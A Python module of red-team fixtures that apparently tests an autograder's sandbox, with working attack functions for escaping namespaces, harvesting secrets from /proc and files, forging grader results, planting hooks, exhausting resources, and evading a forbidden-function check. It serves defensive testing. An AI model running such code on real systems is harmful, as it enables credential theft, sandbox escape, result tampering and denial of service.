"""What a hostile student writes into an answer cell: one function per class of attack.

Each function runs once, when the student's cell runs in the worker, and
returns what it found or managed (secrets, counts, sizes) as text; the cell
then makes the student's answer raise an error with that text, which lands in
the student's own result and feedback. The tests look there for secrets and
counts, and everywhere else for the effects. Each function is self-contained
(its source is pasted into a notebook cell); ``TOKEN`` and ``SHM_CANARY`` are
filled in by the test. Secrets are the test's canaries, which all start with
``SECRET-``; the attacks never spell that word out, so that a line of their
own code quoted in a message cannot look like a leak.
"""

from __future__ import annotations

import inspect
import textwrap
from collections.abc import Callable

TOKEN = "__TOKEN__"  # unique to a test run: the markers of files and processes an attack leaves
SHM_CANARY = "__SHM_CANARY__"  # a /dev/shm file of the grader's that an attack tries to have removed


def hunt_secrets() -> str:
    """Class 1: undo the isolation with privileges (unmount the covers, unshare, setns, other processes'
    /proc), then read every place a secret could be: the course, its .git, homes, /tmp."""
    import ctypes
    import os
    import re
    import zlib

    libc = ctypes.CDLL(None, use_errno=True)
    found: set[str] = set()
    secret = re.compile(rb"SEC" + rb"RET-[A-Z-]+")

    def grab(path: str) -> None:
        try:
            with open(path, "rb") as handle:
                data = handle.read(1 << 22)
        except Exception:
            return
        if "/objects/" in path:
            try:
                data = zlib.decompress(data)
            except Exception:
                pass
        found.update(match.decode() for match in secret.findall(data))

    def walk(top: str, depth: int = 7) -> None:
        top = top.rstrip("/") or "/"
        for folder, dirs, files in os.walk(top):
            if folder.count("/") - top.count("/") >= depth:
                dirs[:] = []
            dirs[:] = [d for d in dirs if d not in ("site-packages", ".pyenv", "__pycache__", "proc", "sys", "usr")]
            for name in files:
                grab(os.path.join(folder, name))

    try:
        points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    except Exception:
        points = []
    for point in reversed(points):
        libc.umount2(point.encode(), 2)
    libc.unshare(0x10000000 | 0x00020000)  # a new user and mount namespace: all capabilities there
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for kind in ("user", "mnt", "pid", "net"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                libc.setns(fd, 0)
                os.close(fd)
            except Exception:
                pass
        for name in ("environ", "cmdline"):
            grab(f"/proc/{pid}/{name}")
        try:
            grab(f"/proc/{pid}/mem")
        except Exception:
            pass
    import autograder

    course = os.path.dirname(os.path.dirname(autograder.__file__))
    places = [course, os.path.expanduser("~"), os.environ.get("HOME", "/"), "/root", "/home", "/tmp", "/dev/shm"]
    for pid in pids:
        places += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{course}", f"/proc/{pid}/root/tmp"]
    for place in places:
        walk(place)
    return " ".join(sorted(found))


def use_channels() -> str:
    """Class 2: reach something privileged through a channel: every unix socket the kernel lists (after
    entering other network namespaces), every descriptor the worker inherited."""
    import ctypes
    import os
    import socket

    libc = ctypes.CDLL(None, use_errno=True)
    notes = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
            libc.setns(fd, 0)
            os.close(fd)
        except Exception:
            pass
    try:
        lines = open("/proc/net/unix").read().splitlines()[1:]
    except Exception:
        lines = []
    for line in lines:
        fields = line.split()
        if len(fields) < 8:
            continue
        address = "\0" + fields[7][1:] if fields[7].startswith("@") else fields[7]
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
            try:
                peer = socket.socket(socket.AF_UNIX, kind)
                peer.settimeout(1)
                peer.connect(address)
                peer.send(b"\x00\x00\x00\x20" + b"x" * 32)
                peer.close()
                notes.append(f"connected to {fields[7]}")
            except Exception:
                pass
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        try:
            os.write(fd, b"REGISTER:/" + SHM_CANARY.encode() + b":shared_memory\n")
            os.write(fd, b"\xff" * 64)
            notes.append(f"wrote to descriptor {fd}")
        except Exception:
            pass
    return "; ".join(notes)


def forge_what_the_grader_reads() -> str:
    """Class 3: files and data the grader trusts: the pid file it kills, a FIFO and malformed results,
    the isolation report, the result channel, and other students' results in the output folder."""
    import json
    import os
    import struct

    notes = []
    grader = None
    out = None
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except Exception:
            continue
        if b"grade" in argv and b"--out" in argv:
            grader = int(pid)
            out = argv[argv.index(b"--out") + 1].decode()
            cwd = os.readlink(f"/proc/{pid}/cwd")
            out = out if out.startswith("/") else os.path.join(cwd, out)
    here = os.getcwd()
    try:
        with open(os.path.join(here, "pid"), "w") as handle:
            handle.write(str(grader or os.getppid() or 1))
        os.makedirs(os.path.join(here, "results"), exist_ok=True)
        os.mkfifo(os.path.join(here, "results", "0.npz"))
        with open(os.path.join(here, "results", "1.npz"), "wb") as handle:
            handle.write(b"PK\x03\x04" + b"\x00" * 26 + b"[" * 100000)
        import numpy as np

        tree = json.dumps({"__dict__": {"files": "enforced: FORGED-REPORT", "network": "enforced: FORGED-REPORT"}})
        np.savez(os.path.join(here, "sandbox.npz"), __tree__=np.frombuffer(tree.encode(), dtype=np.uint8))
        notes.append("wrote into its folder")
    except Exception as error:
        notes.append(f"folder: {type(error).__name__}")
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        for frame in (
            struct.pack("<I", 0xFFFFFFF0),
            struct.pack("<I", 100008) + b"AGPD" + struct.pack("<I", 100000) + b"[" * 100000,
            b"AGPD" + struct.pack("<I", 40) + b'{"tree":{"__array__":0},"arrays":[["<f8",[1099511627776]]]}',
        ):
            try:
                os.write(fd, frame)
            except Exception:
                pass
    if out:
        for point in reversed([line.split()[4] for line in open("/proc/self/mountinfo")]):
            import ctypes

            ctypes.CDLL(None).umount2(point.encode(), 2)
        for student, score in (("z_reference", 0.0), ("a_forges_results", 27.0)):
            forged = {"student_id": student, "lab": "hyperparameter_search", "score": score, "max_score": 27.0}
            forged |= {"status": "graded", "cells": [], "errors": ["FORGED-RESULT"], "environment": {}}
            try:
                with open(os.path.join(out, f"{student}.json"), "w") as handle:
                    json.dump(forged, handle)
                notes.append(f"forged {student}")
            except Exception:
                pass
    return "; ".join(notes)


def reach_what_is_not_covered() -> str:
    """Class 4 (files): classmates' jobs in a shared scratch folder, the package source, site-packages,
    the standard library, ~/.keras, /tmp and /dev/shm, the course's .git."""
    import glob
    import os
    import re

    import numpy

    found: set[str] = set()
    notes = []
    for path in glob.glob("/tmp/autograder-*/**/*", recursive=True):
        try:
            data = open(path, "rb").read()
        except Exception:
            continue
        found.update(m.decode() for m in re.findall(rb"SEC" + rb"RET-[A-Z-]+", data))
        if path.endswith("job.npz"):
            try:
                with open(path, "wb") as handle:
                    handle.write(b"sabotaged")
                notes.append("rewrote a job")
            except Exception:
                pass
    import autograder

    targets = {
        os.path.join(os.path.dirname(autograder.__file__), "__init__.py"): "append",
        os.path.join(os.path.dirname(os.path.dirname(numpy.__file__)), f"autograder-redteam-{TOKEN}.txt"): "new",
        os.path.join(os.path.dirname(os.__file__), f"autograder-redteam-{TOKEN}.txt"): "new",
        f"/tmp/autograder-redteam-{TOKEN}": "new",
        f"/dev/shm/autograder-redteam-{TOKEN}": "new",
    }
    course = os.path.dirname(os.path.dirname(autograder.__file__))
    targets[os.path.join(course, ".git", "hooks", "post-checkout")] = "new"
    homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root"}
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            environ = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
            homes.update(e[5:].decode() for e in environ if e.startswith(b"HOME="))
        except Exception:
            pass
    for home in filter(None, homes):
        targets[os.path.join(home, ".keras", "keras.json")] = "keras"
    for path, how in targets.items():
        try:
            if how == "append":
                with open(path, "a") as handle:
                    handle.write("\n# red-team backdoor\n")
            elif how == "keras":
                with open(path, "w") as handle:
                    handle.write('{"floatx": "float16", "backend": "jax"}')
            else:
                with open(path, "w") as handle:
                    handle.write("red team was here")
            notes.append(f"wrote {path}")
        except Exception:
            pass
    return " ".join(sorted(found)) + " | " + "; ".join(notes)


def exhaust_resources() -> str:
    """Class 4 (resources): raise the limits, then start as many processes as it can (one escaping into
    a session of its own), fill /tmp, /dev/shm and the working folder, allocate 8 GB."""
    import os
    import resource
    import subprocess

    for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except Exception:
            pass
    marker = f"12{TOKEN}"  # a sleep of many seconds, whose command line names this run
    started = 0
    for _ in range(600):
        try:
            os.posix_spawn("/bin/sleep", ["sleep", marker], dict(os.environ))
            started += 1
        except Exception:
            break
    try:
        subprocess.Popen(["/bin/sleep", marker], start_new_session=True)
    except Exception:
        pass

    def fill(path: str, most: int) -> int:
        written = 0
        try:
            with open(path, "wb") as handle:
                chunk = b"\0" * (1 << 24)
                while written < most:
                    handle.write(chunk)
                    handle.flush()
                    written += len(chunk)
        except Exception:
            pass
        return written // 2**20

    sizes = [
        fill(f"/tmp/autograder-redteam-fill-{TOKEN}", 600 << 20),
        fill(f"/dev/shm/autograder-redteam-fill-{TOKEN}", 160 << 20),
        fill(os.path.join(os.getcwd(), f"fill-{TOKEN}"), 600 << 20),
    ]
    try:
        memory = len(bytearray(8 << 30)) >> 30
    except MemoryError:
        memory = 0
    return f"PROCESSES={started} TMP_MB={sizes[0]} SHM_MB={sizes[1]} SCRATCH_MB={sizes[2]} MEMORY_GB={memory}"


def answer_cell(attack: Callable[[], str], token: str, shm_canary: str) -> str:
    """A sample_log_uniform cell that runs ``attack`` once and reports what it found in its error."""
    source = (
        textwrap.dedent(inspect.getsource(attack)).replace("__TOKEN__", token).replace("__SHM_CANARY__", shm_canary)
    )
    return (
        f"TOKEN = {token!r}\nSHM_CANARY = {shm_canary!r}\n{source}\n"
        f"try:\n    FINDINGS = {attack.__name__}()\nexcept BaseException as error:\n"
        "    FINDINGS = f'the attack failed: {type(error).__name__}'\n\n\n"
        "def sample_log_uniform(low, high, size, rng):\n    raise RuntimeError('FINDINGS ' + FINDINGS)\n"
    )


ATTACKS: dict[str, Callable[[], str]] = {
    "a_privileges": hunt_secrets,
    "a_channels": use_channels,
    "a_forges_results": forge_what_the_grader_reads,
    "a_uncovered": reach_what_is_not_covered,
    "a_resources": exhaust_resources,
}

# Class 5: correct samplers that reach the forbidden built-in by a name the source never spells out.
EVASIONS = {
    "a_evades_with_vars": "import scipy.stats as st\n\n\ndef sample_log_uniform(low, high, size, rng):\n"
    "    return vars(st)['log' + 'uniform'](low, high).rvs(size=size, random_state=rng)\n",
    "a_evades_with_getattr": "import scipy.stats\n\n\ndef sample_log_uniform(low, high, size, rng):\n"
    "    name = ''.join(['log', 'uni', 'form'])\n"
    "    return getattr(scipy.stats, name)(low, high).rvs(size=size, random_state=rng)\n",
    "a_evades_with_importlib": "import importlib\n\n\ndef sample_log_uniform(low, high, size, rng):\n"
    "    stats = importlib.import_module('scipy.' + 'stats')\n"
    "    return stats.__dict__['log' + 'uniform'](low, high).rvs(size=size, random_state=rng)\n",
}
